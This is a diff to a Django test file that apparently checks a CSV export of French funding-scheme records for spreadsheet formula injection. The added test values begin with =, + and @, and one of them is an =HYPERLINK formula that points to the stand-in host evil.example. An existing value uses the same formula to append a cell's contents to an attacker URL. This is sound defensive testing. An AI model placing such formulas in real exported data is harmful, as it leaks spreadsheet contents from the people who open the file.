@@ -39,6 +39,10 @@ pytestmark = pytest.mark.django_db
 TITLE = '=HYPERLINK("https://evil.example/?d="&A2,"Voir la fiche")'
 PROMESSE = "+33 % de votre programme d'emplois financés"
 ELIGIBILITY = "-Entreprise implantée sur le territoire\n-Au moins un emploi créé"
+# The lists of issue 23 (one item per line, as eligibilite).
+COVERED = '=HYPERLINK("https://evil.example/")\nMatériel'
+EXAMPLES = "+20 % de chiffre d'affaires"
+CHECKLIST = "@Votre SIRET"
 OPERATOR = "@Initiative Bièvre"
 CONTACT = "-Edith Blard"
 VOLET_LABEL = "\tPrêt à taux zéro"
@@ -96,6 +100,9 @@ def hostile_fiche(guide_index):
         title=TITLE,
         promesse=PROMESSE,
         eligibility=ELIGIBILITY,
+        covered_expenses=COVERED,
+        project_examples=EXAMPLES,
+        call_checklist=CHECKLIST,
         operator=operator,
         opening_date=today() - datetime.timedelta(days=30),
         closing_date=today() + datetime.timedelta(days=5),
@@ -147,6 +154,9 @@ def test_the_fiches_csv_export_is_neutralised_and_reads_back_unchanged(
     assert row["titre"] == "'" + TITLE
     assert row["promesse"] == "'" + PROMESSE
     assert row["eligibilite"] == "'" + ELIGIBILITY
+    assert row["depenses_couvertes"] == "'" + COVERED
+    assert row["exemples_projets"] == "'" + EXAMPLES
+    assert row["preparez_votre_appel"] == "'" + CHECKLIST
     assert row["operateur"] == "'" + OPERATOR
     assert row["volet_1_intitule"] == "'" + VOLET_LABEL
     assert row["contact_1_nom"] == "'" + CONTACT
